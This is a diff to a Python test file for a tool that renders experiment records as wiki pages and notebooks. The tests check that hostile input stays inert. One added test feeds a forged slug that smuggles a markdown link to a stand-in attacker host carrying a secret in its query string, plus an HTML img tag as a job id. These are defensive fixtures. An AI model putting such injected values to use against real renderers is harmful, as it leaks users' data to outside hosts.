@@ -103,7 +103,10 @@ def experiment(**changes: object) -> Experiment:
 def test_the_page_and_notebook_keep_hostile_goals_as_text_and_scripts_whole(payload: str) -> None:
     script = f"#!/bin/bash\n#SBATCH --job-name=run\necho '{payload}'\n"
     record = experiment(goal=payload, script=script, resources={"gpus": payload})
-    page = content.page_body(record, content.auto_region(record, None, payload, log_tail=payload))
+    from betty_jupyter.wiki.page import render_frontmatter
+
+    page = render_frontmatter(content.page_frontmatter(record)) + \
+        content.page_body(record, content.auto_region(record, None, payload, log_tail=payload))
     failed = content.auto_region(record, None, "FAILED", log_tail=payload)
     assert live_markdown(page) == [] and live_markdown(failed) == []
     assert script.replace("\r\n", "\n").replace("\r", "\n") in code_blocks(page)
@@ -138,3 +141,13 @@ def test_the_job_table_escapes_every_cell_and_header() -> None:
     markup = styled_html(frame, list(frame.columns), "name", True)
     assert live_html(markup) == []
     assert all(visible(name) in shown_text(markup) for name in names)
+
+
+def test_a_resubmission_links_the_page_it_corrects_and_nothing_else() -> None:
+    record = experiment(goal="fix the memory", replaces={"slug": "2026-11-21-run", "job_id": "41"})
+    page = content.page_body(record, "")
+    assert "fix the memory\n\nResubmits [2026-11-21-run](2026-11-21-run.md) (job 41)." in page
+    notebook = content.notebook(record).cells[0].source
+    assert "[2026-11-21-run](../../wiki/experiments/2026-11-21-run.md)" in notebook
+    forged = experiment(replaces={"slug": f"x](https://{EVIL_HOST}/?d=SECRET) ![y", "job_id": "<img src=x>"})
+    assert "Resubmits" not in content.page_body(forged, "") and live_markdown(content.page_body(forged, "")) == []
